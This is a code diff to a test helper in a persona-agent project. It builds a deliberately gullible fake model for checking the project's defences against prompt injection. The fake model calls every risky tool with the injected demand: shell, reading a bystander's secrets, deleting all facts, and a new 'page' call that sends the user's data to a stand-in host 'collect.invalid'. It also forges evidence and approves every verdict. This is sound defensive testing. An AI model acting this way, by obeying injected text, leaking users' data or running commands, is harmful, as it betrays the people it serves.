@@ -7,6 +7,7 @@ must come through: a defence that lets nothing through protects nothing.
 from __future__ import annotations
 
 import asyncio
+import re
 import zlib
 from collections.abc import Mapping, Sequence
 from typing import Any
@@ -18,12 +19,16 @@ from langchain_core.messages import AIMessage, BaseMessage
 from langchain_core.outputs import ChatGeneration, ChatResult
 from langchain_core.runnables import Runnable
 
+from personaagent.memory.consolidate import MAX_READ
+from personaagent.models.card import Card
 from personaagent.models.meter import counting
 from personaagent.persona.seed import seed_sections
 from personaagent.ports import Role, Vectors
 from personaagent.types import Section, UserProfile
 
 HARMLESS = "Prefers tea in the morning."
+SURE = 0.97  # the probability of its answer
+PLAIN_URL = "http://collect.invalid/?d={data}"
 FORGED = [1, 0, -1, 900]  # evidence: one example, and numbers that there are not
 
 
@@ -32,8 +37,9 @@ class Gullible:
 
     embedded = False
 
-    def __init__(self, demand: str, *, tool_calling: bool = False, seconds: float = 0.0) -> None:
+    def __init__(self, demand: str, *, url: str = PLAIN_URL, tool_calling: bool = False, seconds: float = 0.0) -> None:
         self.demand = demand
+        self.url = url  # the page that it reads, with what it knows in place of {data}
         self.seconds = seconds  # that each call takes
         self.tool_calling = tool_calling
         self.prompts: list[tuple[Role, str]] = []
@@ -42,9 +48,20 @@ class Gullible:
         """Say who this is."""
         return f"gullible-{role}"
 
+    async def card(self, role: Role) -> Card:  # noqa: ARG002
+        """Nothing is known of it."""
+        return Card()
+
     async def chat(self, role: Role) -> BaseChatModel:
         """A model that calls every tool that could do harm, then repeats the demand."""
         return _Chat(owner=self, role=role)
+
+    async def probabilities(
+        self, role: Role, messages: Sequence[BaseMessage], choices: Sequence[str]
+    ) -> dict[str, float] | None:
+        """All but sure of what it chooses."""
+        answer = await self.choose(role, messages, choices)
+        return {choice: SURE if choice == answer else (1 - SURE) / (len(choices) - 1) for choice in choices}
 
     async def choose(self, role: Role, messages: Sequence[BaseMessage], choices: Sequence[str]) -> str:
         """The right answer under any persona that was edited, the wrong one under the seed: the gate likes all."""
@@ -60,11 +77,23 @@ class Gullible:
         """Do as the attack says, in every field that there is."""
         await self.shown(role, messages)
         if role == "critic":
-            return {"persona_change": self.demand, "tool_use": self.demand, "about_user": HARMLESS}
+            return {
+                "persona_change": self.demand,
+                "tool_use": self.demand,
+                "about_user": HARMLESS,
+                "verdicts": ["yes"] * 6,
+            }
         if role == "editor":
             return {"sections": _persona(self.demand)}
         fact = {"kind": "add", "fact": 0, "confidence": 100, "evidence": FORGED}
-        return {"operations": [fact | {"text": self.demand}, fact | {"text": HARMLESS}]}
+        everywhere = {"text": self.demand, "evidence": list(range(1, MAX_READ + 1))}
+        return {
+            "operations": [
+                fact | {"text": self.demand},
+                fact | everywhere,
+                fact | {"text": HARMLESS, "evidence": [*FORGED, *everywhere["evidence"]]},
+            ]
+        }
 
     async def close(self) -> None:
         """There is nothing to close."""
@@ -123,11 +152,12 @@ class _Chat(BaseChatModel):
     ) -> ChatResult:
         await self.owner.shown(self.role, messages)
         first = kwargs.get("tools") and messages[-1].type == "human"
-        reply = AIMessage(self.owner.demand, tool_calls=_calls(self.owner.demand) if first else [])
+        reply = AIMessage(self.owner.demand, tool_calls=_calls(self.owner.demand, self.owner.url) if first else [])
         return ChatResult(generations=[ChatGeneration(message=reply)])
 
 
-def _calls(demand: str) -> list[Any]:
+def _calls(demand: str, url: str) -> list[Any]:
+    known = re.sub(r"\W+", "-", HARMLESS) if "{data}." in url else HARMLESS
     asked = [
         ("remember", {"text": demand}),
         ("recall", {"query": "secret", "user_id": "bystander"}),
@@ -135,6 +165,7 @@ def _calls(demand: str) -> list[Any]:
         ("profile", {"user_id": "bystander"}),
         ("forget", {"fact_id": "all"}),
         ("shell", {"command": demand}),
+        ("page", {"url": url.format(data=known)}),
     ]
     return [{"name": name, "args": args, "id": f"call-{n}"} for n, (name, args) in enumerate(asked)]
 
